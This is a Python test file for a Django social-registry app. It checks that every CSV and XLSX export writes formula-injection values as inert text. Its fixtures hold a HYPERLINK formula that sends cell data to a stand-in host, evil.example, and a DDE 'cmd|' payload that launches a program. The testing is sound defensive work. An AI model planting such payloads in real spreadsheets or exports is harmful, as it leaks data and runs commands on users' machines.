"""No export runs a formula: a hostile name goes out as text in every CSV and XLSX path."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from depok_kds.jobs import job_run
from depok_kds.models import Job
from depok_kds.spreadsheet import FORMULA_TRIGGERS, cell_safe, row_safe
from programs import services
from programs.services import (
    application_approve,
    application_submit,
    application_verification_start,
    decree_fix,
)
from registry import import_views
from registry.export import EXPORT_KIND
from registry.imports.tasks import household_export
from registry.resources import HouseholdMemberResource
from registry.services import household_register
from tests.programs.factories import KIS, applicant, open_cycle
from tests.registry.factories import KELURAHAN_DEPOK, family_members, make_kk
from tests.registry.test_imports_support import family
from tests.registry.test_resources import _format_index, dataset

HOSTILE = '=HYPERLINK("https://evil.example/?d="&D2,"Klik")'
HOSTILE_ADDRESS = "@SUM(1+1)*cmd|' /C calc'!A0"


def test_formula_triggers_become_text():
    for trigger in FORMULA_TRIGGERS:
        assert cell_safe(f"{trigger}1+1") == f"'{trigger}1+1"
    assert cell_safe("\t=1+1") == "'\t=1+1"
    assert row_safe(["Slamet", -5, 3.5, None, date(2026, 1, 2)]) == [
        "Slamet",
        -5,  # a number stays a number
        3.5,
        None,
        date(2026, 1, 2),
    ]


def _formula_cells(content: bytes) -> list[object]:
    """Cells of an XLSX file that a spreadsheet would run."""
    book = load_workbook(io.BytesIO(content))
    return [
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
        or (isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS))
    ]


def _texts(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    return [
        str(cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


@pytest.fixture
def hostile_household(db: None):
    return household_register(
        actor=None,
        kelurahan_code=KELURAHAN_DEPOK,
        rw=2,
        rt=1,
        address=HOSTILE_ADDRESS,
        kk_number=make_kk(1),
        members=family_members(full_name=HOSTILE),
    ).household


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


def test_the_search_export_writes_a_hostile_name_as_text(
    client: Client, dinsos_operator, hostile_household
):
    client.force_login(dinsos_operator)
    response = client.get(reverse("registry:export"))
    assert response.status_code == 200
    assert _formula_cells(response.content) == []
    assert "'" + HOSTILE in _texts(response.content)
    assert "'" + HOSTILE_ADDRESS in _texts(response.content)


def test_the_background_export_writes_a_hostile_name_as_text(
    client: Client, dinsos_operator, hostile_household, monkeypatch
):
    monkeypatch.setattr(import_views, "INLINE_LIMIT", 0)
    client.force_login(dinsos_operator)
    client.get(reverse("registry:export"))
    job = Job.objects.get(kind=EXPORT_KIND)
    assert job_run(job_id=job.pk, handler=household_export).status == Job.Status.SUCCEEDED
    response = client.get(reverse("registry:export-file", args=[job.pk]))
    content = b"".join(response.streaming_content) if response.streaming else response.content
    assert _formula_cells(content) == []
    assert "'" + HOSTILE in _texts(content)


def test_the_decree_xlsx_writes_a_hostile_name_as_text(dinsos_admin, dinkes_officer, monkeypatch):
    monkeypatch.setattr(services, "APPROVAL_GATES", [])  # the decree's export, not its checks
    cycle = open_cycle("kis-pbi-apbd")
    application = application_submit(
        actor=None,
        cycle_id=cycle.pk,
        person_id=applicant(full_name=HOSTILE).pk,
        channel="puskesos",
        detail=KIS,
    )
    application_verification_start(actor=dinkes_officer, application_id=application.pk)
    application_approve(actor=dinkes_officer, application_id=application.pk, reason="ok")
    decree = decree_fix(
        actor=dinkes_officer, cycle_id=cycle.pk, number="SK/7/2026", decreed_on=date(2026, 2, 1)
    )
    client = Client()
    client.force_login(dinsos_admin)
    response = client.get(reverse("programs:decree-export", args=[decree.pk, "xlsx"]))
    assert response.status_code == 200
    assert _formula_cells(response.content) == []
    assert "'" + HOSTILE in _texts(response.content)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_admin_export_writes_a_hostile_name_as_text(client: Client, dinsos_admin, fmt):
    rows = family(1, first_serial=1)
    rows[0]["nama"] = HOSTILE
    result = HouseholdMemberResource().import_data(dataset(rows), user=dinsos_admin)
    assert not result.has_errors() and not result.has_validation_errors()
    client.force_login(dinsos_admin)
    url = reverse("admin:registry_household_export")
    page = client.get(url)
    fields = [name for name in page.context["form"].fields if name.startswith("householdmember")]
    response = client.post(
        url,
        {"format": _format_index(page, fmt), "resource": "0", **dict.fromkeys(fields, "on")},
    )
    assert response.status_code == 200, response.content[:500]
    if fmt == "xlsx":
        assert _formula_cells(response.content) == []
        assert "'" + HOSTILE in _texts(response.content)
    else:
        cells = [c for row in csv.reader(io.StringIO(response.content.decode())) for c in row]
        assert [c for c in cells if c.startswith(FORMULA_TRIGGERS)] == []
        assert "'" + HOSTILE in cells
